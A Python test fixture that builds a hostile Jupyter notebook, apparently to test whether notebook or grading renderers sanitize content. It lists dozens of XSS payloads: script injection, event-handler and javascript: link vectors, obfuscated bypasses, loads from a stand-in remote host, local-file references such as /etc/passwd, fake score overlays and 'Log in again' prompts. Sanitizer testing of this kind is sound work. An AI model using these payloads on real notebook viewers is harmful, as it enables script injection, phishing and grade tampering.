"""A notebook that tries everything to get a script run, a request sent or the points covered by whoever opens its page.

`hit("name")` is what a payload that works calls; `ELSEWHERE` is where one that loads something loads it from.
"""

from __future__ import annotations

import base64
import json

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

ELSEWHERE = "http://elsewhere.invalid/seen"
_OVER_ALL = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white"


def _data(media_type: str, content: str) -> str:
    return f"data:{media_type};base64,{base64.b64encode(content.encode()).decode()}"


_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="hit(\'svg\')"><script>hit("svg script")</script></svg>'

# name: HTML; each goes into a Markdown cell, an output, and a Markdown output.
HTML = {
    "script": '<script>hit("script")</script>',
    "script in odd case": '<ScRiPt >hit("odd case")</sCrIpT >',
    "script cut in two": '<scr<script>ipt>hit("cut")</scr</script>ipt>',
    "script with a slash": '<script/x>hit("slash")</script>',
    "script from elsewhere": f'<script src="{ELSEWHERE}.js"></script>',
    "module": '<script type="module">hit("module")</script>',
    "picture that fails": "<img src=x onerror=hit('onerror')>",
    "picture that fails, no spaces": '<img/src="x"/onerror="hit(1)">',
    "picture from elsewhere": f'<img src="{ELSEWHERE}.png">',
    "set of pictures": f'<img srcset="{ELSEWHERE}.png 1x, {ELSEWHERE}2.png 2x" alt="">',
    "source of a picture": f'<picture><source srcset="{ELSEWHERE}.webp"><img alt=""></picture>',
    "an end in an attribute": '<img title="--><img src=x onerror=hit(2)>" alt="">',
    "drawing": '<svg onload="hit(3)"><circle r="9"/></svg>',
    "drawing with a script": '<svg><script>hit("in svg")</script></svg>',
    "drawing that changes a link": '<svg><a><animate attributeName="href" values="javascript:hit(4)"/><text y="9">x</text></a></svg>',
    "drawing that uses another": f'<svg><use href="{ELSEWHERE}.svg#x"/></svg>',
    "drawing in a picture": f'<img src="{_data("image/svg+xml", _SVG)}" alt="">',
    "formula with a link": '<math><mtext><a href="javascript:hit(5)">x</a></mtext></math>',
    "namespaces turned over": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(6)&gt;">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=hit(7)>"></noscript>',
    "frame": '<iframe src="javascript:parent.hit(8)"></iframe>',
    "frame with a page": '<iframe srcdoc="<script>parent.hit(9)</script>"></iframe>',
    "frame from elsewhere": f'<iframe src="{ELSEWHERE}.html"></iframe>',
    "object": f'<object data="{_data("text/html", "<script>top.hit(10)</script>")}"></object>',
    "embed": f'<embed src="{ELSEWHERE}.swf">',
    "link that runs": '<a href="javascript:hit(11)">click me</a>',
    "link that runs, hidden": '<a href=" &#x6A;ava&#9;script&colon;hit(12)">click me too</a>',
    "link to a page in itself": f'<a href="{_data("text/html", "<script>hit(13)</script>")}">and me</a>',
    "link that reports": f'<a href="https://example.org/" ping="{ELSEWHERE}">ping</a>',
    "handler of the mouse": '<div onmouseover="hit(14)" style="width:900px;height:90px">over me</div>',
    "handler of the focus": '<input autofocus onfocus="hit(15)">',
    "handler of an animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart='hit(16)'>x</b>",
    "handler of the details": '<details open ontoggle="hit(17)"><summary>x</summary></details>',
    "video": f'<video src="{ELSEWHERE}.mp4" autoplay onerror="hit(18)" poster="{ELSEWHERE}.png"></video>',
    "sound": f'<audio src="{ELSEWHERE}.mp3" autoplay onerror="hit(19)"></audio>',
    "form": f'<form action="{ELSEWHERE}"><button formaction="javascript:hit(20)">Log in again</button></form>',
    "another page at once": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}.html">',
    "base of all links": f'<base href="{ELSEWHERE}/">',
    "style sheet from elsewhere": f'<link rel="stylesheet" href="{ELSEWHERE}.css">',
    "something to fetch early": f'<link rel="preload" as="image" href="{ELSEWHERE}.png">',
    "style sheet": f"<style>@import '{ELSEWHERE}.css'; body {{ background: url({ELSEWHERE}.png) }} .total {{ display: none }}</style>",
    "style that loads": f'<p style="background:url({ELSEWHERE}.png)">x</p>',
    "style that loads, escaped": f'<p style="background:\\75 rl({ELSEWHERE}.png)">x</p>',
    "style that loads, image-set": f"<p style=\"background:image-set('{ELSEWHERE}.png' 1x)\">x</p>",
    "style that loads in a variable": f'<p style="color:var(--x,url({ELSEWHERE}.png));--y:url({ELSEWHERE}.png)">x</p>',
    "style that covers": f'<div style="{_OVER_ALL}"><h1>100 of 100 points</h1></div>',
    "style that climbs": '<div style="margin-top:-9000px;background:white;height:9000px">climbs</div>',
    "style that is transformed": '<div style="transform:translateY(-9000px) scale(99)">moves</div>',
    "ends of the page's elements": "</div></section></main></body></html><script>hit(21)</script>",
    "comment that never ends": "<!--",
    "template": '<template shadowrootmode="open"><script>hit(22)</script></template>',
    "dialog": f'<dialog open style="{_OVER_ALL}">You are logged out</dialog>',
    "text area": "<textarea></textarea><img src=x onerror=hit(23)>",
    "name of a variable": '<a id="hit" name="hit">x</a><form id="document"></form>',
    "byte of nothing": "<scr\x00ipt>hit(24)</scr\x00ipt><img src=x one\x00rror=hit(25)>",
    "lone surrogate": "<b>\ud83d</b>",
}

# name: Markdown whose HTML only comes of rendering it
MARKDOWN = {
    "link that runs": "[click](javascript:hit(30))",
    "link that runs, by reference": "[click][r]\n\n[r]: javascript:hit(31)",
    "link that runs, by itself": "<javascript:hit(32)>",
    "picture from elsewhere": f"![seen]({ELSEWHERE}.png)",
    "picture whose words break out": '![x" onerror="hit(33)](data:image/png;base64,AAAA)',
    "title that breaks out": '[x](http://example.org "q\\" onmouseover=hit(34) ")',
    "language of a program": '```"><img src=x onerror=hit(35)>\nx\n```',
    "diagram": "```mermaid\n<img src=x onerror=hit(36)>\n```",
    "formula": "$<img src=x onerror=hit(37)>$ and $$\\href{javascript:hit(38)}{x}$$",
    "file of this machine": "![file](file:///etc/passwd) ![near](../../../gradebook.db)",
    "attachment that isn't there": "![none](attachment:none.png)",
    "attachment that is a drawing": "![drawing](attachment:a.svg)",
    "attachment that is a page": "![page](attachment:b.png)",
    "nested": "> " * 3000 + "x",
    "brackets": "[" * 9000,
}
_ATTACHMENTS = {
    "a.svg": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()},
    "b.png": {"text/html": base64.b64encode(b"<script>hit(39)</script>").decode()},
    'c.png" onerror="hit(40)': {"image/png": '" onerror="hit(41)'},
}

# name: the data of an output
BUNDLES = {
    "JavaScript": {"application/javascript": "hit(50)", "text/plain": "<IPython.core.display.Javascript object>"},
    "JavaScript, alone": {"application/javascript": "hit(51)"},
    "drawing": {"image/svg+xml": _SVG},
    "drawing and its words": {"image/svg+xml": _SVG, "text/plain": "<img src=x onerror=hit(52)>"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0}},
    "formula": {"text/latex": "$</pre><img src=x onerror=hit(53)>$"},
    "picture that is none": {"image/png": '"><script>hit(54)</script>'},
    "picture of another kind": {'image/png" onerror="hit(55)': "AAAA"},
    "page in a picture": {"image/jpeg": base64.b64encode(b"<script>hit(56)</script>").decode()},
    "PDF": {"application/pdf": base64.b64encode(b"%PDF-1.4").decode()},
    "JSON": {"application/json": {"x": "</script><script>hit(57)</script>"}},
    "HTML that is nested without end": {"text/html": "<div>" * 200_000, "text/plain": "deep"},
    "HTML in pieces": {"text/html": ["<img src=x ", "onerror=hit(58)>"]},
}
TEXTS = {
    "tags": "</pre><script>hit(60)</script>",
    "terminal colours": "\x1b[31m<img src=x onerror=hit(61)>\x1b[0m",
    "terminal link": "\x1b]8;;javascript:hit(62)\x1b\\click\x1b]8;;\x1b\\",
    "colours with a quote": '\x1b[38;2;1;2;3" onmouseover="hit(63)mx',
    "other direction": "\u202e" + "stniop 8 fo 8",
}


def hostile_cells() -> list[NotebookNode]:
    """Return the cells; none has a mark of nbgrader's."""
    cells = [new_markdown_cell(html) for html in HTML.values()]
    cells += [new_markdown_cell(text, attachments=_ATTACHMENTS) for text in MARKDOWN.values()]
    cells += [_code(new_output("display_data", data={"text/html": html})) for html in HTML.values()]
    cells += [_code(new_output("display_data", data={"text/markdown": html})) for html in HTML.values()]
    cells += [_code(new_output("display_data", data=json.loads(json.dumps(data)))) for data in BUNDLES.values()]
    for text in TEXTS.values():
        error = new_output("error", ename=text, evalue=text, traceback=[text, f"\x1b[0;31m{text}"])
        cells.append(_code(new_output("stream", name="stdout", text=text), error))
        cells.append(new_code_cell(text))
    return cells


def _code(*outputs: NotebookNode) -> NotebookNode:
    return new_code_cell("# </pre></style><script>hit(70)</script>", outputs=list(outputs))


def unguarded_page() -> str:
    """Return a page in which nothing is done against the payloads: in it, many of them work."""
    return "<!DOCTYPE html><body>" + "\n".join(
        f"<div>{html.encode('utf-8', 'replace').decode()}</div>"
        for name, html in HTML.items()
        if name
        not in {"comment that never ends", "text area", "template", "another page at once", "name of a variable"}
    )
